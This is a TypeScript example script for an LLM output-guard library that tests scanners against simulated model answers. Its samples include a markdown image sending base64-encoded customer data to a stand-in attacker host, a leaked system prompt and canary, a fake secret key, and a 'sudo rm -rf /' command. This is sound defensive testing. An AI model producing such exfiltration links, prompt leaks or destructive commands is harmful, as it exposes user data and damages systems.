/**
 * Output scanners on whole and streamed answers, offline.
 * Run from the repository root with `pnpm --filter @parapet-examples/output-scanners start`.
 */
import { createGuard } from '@parapet/core';
import {
  canary,
  exfiltration,
  jsonSchema,
  piiLeak,
  refusal,
  secretLeak,
  systemPromptLeak,
  toxicity,
  unsafeCode,
} from '@parapet/scanners';
import { z } from 'zod';

const marker = canary();
const systemPrompt = `You are the support assistant of Example Ltd. Answer questions about orders and invoices only. Never share internal discount codes such as the staff code, and escalate refunds above 200 euros to a human agent. ${marker.token}`;

const guard = createGuard({
  output: [
    systemPromptLeak({ systemPrompt, canaries: [marker] }),
    exfiltration({ allowDomains: ['docs.example.com'] }),
    piiLeak(),
    secretLeak(),
    toxicity(),
    refusal(),
    unsafeCode(),
  ],
  stream: { holdBack: 160 },
  policy: { onBlock: { mode: 'fallback', fallback: "Sorry, I can't share that." } },
});

/** A "model" that streams its answer in small chunks, the way an SDK does. */
async function* model(answer: string, size: number): AsyncGenerator<string> {
  for (let at = 0; at < answer.length; at += size) yield answer.slice(at, at + size);
}

async function stream(title: string, answer: string, size = 7): Promise<void> {
  let out = '';
  for await (const chunk of guard.scanStream(model(answer, size))) out += chunk;
  console.log(`\n== ${title} (streamed in ${size}-character chunks)\n   user sees: ${JSON.stringify(out)}`);
}

await stream(
  'An ordinary answer passes through unchanged',
  'Your invoice INV-2291 was sent on 3 May; you can download it again from your account page.',
);
await stream(
  'The model leaks its system prompt',
  `Of course! My instructions: ${systemPrompt.replace(marker.token, '')}`,
);
await stream('The model leaks the canary, re-spaced', `Debug info: ${marker.token.split('').join(' ')}`);
await stream(
  'A markdown image that would send the conversation elsewhere',
  'Here is your summary. ![loading](https://img.attacker-site.com/p.png?d=Y3VzdG9tZXIgZW1haWwgaXMgamFuZS5kb2VAZXhhbXBsZS5jb20=) Thanks!',
);
await stream(
  'A secret split across chunks is redacted whole',
  'Use the key sk_live_51HqLyjWDarjtT1zdp7dcXYZabcdEFGH12345678 in your config.',
  3,
);
await stream('An e-mail address in the answer is redacted', 'You can write to jane.doe@example.com for a refund.', 5);

// Providers stream token deltas of a few characters. By default each delta costs one scan of the window;
// `scanEvery: 32` scans once 32 characters can be released (same safety margin: `holdBack`).
{
  const answer =
    'Your parcel left our depot this morning and should arrive tomorrow between 9:00 and 13:00. '.repeat(6) +
    'A leaked key sk_live_51HqLyjWDarjtT1zdp7dcXYZabcdEFGH12345678 is still caught.';
  const pieces: string[] = [];
  let chunks = 0;
  const counted = async function* () {
    for await (const piece of model(answer, 4)) {
      chunks++;
      yield piece;
    }
  };
  for await (const piece of guard.scanStream(counted(), { scanEvery: 32 })) pieces.push(piece);
  console.log(
    `\n== Token-sized chunks, scanEvery 32\n   ${chunks} chunks in, ${pieces.length} pieces out; secret redacted: ${pieces.join('').includes('[SECRET]') && !pieces.join('').includes('sk_live')}`,
  );
}

const whole = async (title: string, answer: string) => {
  const verdict = await guard.check('output', answer);
  console.log(
    `\n== ${title}\n   ${verdict.action.toUpperCase()}  ${verdict.findings.map((f) => `${f.detector}/${f.category}`).join(', ')}`,
  );
};
await whole('A toxic reply', 'You are a stupid idiot and I will kill you.');
await whole('A refusal', "I'm sorry, but I can't help with that request.");
await whole('Dangerous shell advice', 'To clean up, run:\n```sh\nsudo rm -rf / --no-preserve-root\n```');

// Structured output: repaired and validated against a zod schema.
const Order = z.object({ id: z.string(), total: z.number(), items: z.array(z.string()) });
const structured = createGuard({ output: [jsonSchema(Order, { repair: true })] });
const repaired = await structured.check('output', "```json\n{ id: 'A-17', total: 42.5, items: ['pen', 'ink',], }\n```");
console.log(`\n== Broken JSON, repaired and valid\n   ${repaired.action.toUpperCase()}  text now: ${repaired.text}`);
const invalid = await structured.check('output', '{"id": "A-18", "total": "forty"}');
console.log(
  `\n== JSON that does not match the schema\n   ${invalid.action.toUpperCase()}  ${invalid.findings.map((f) => f.message).join('; ')}`,
);
await guard.close();
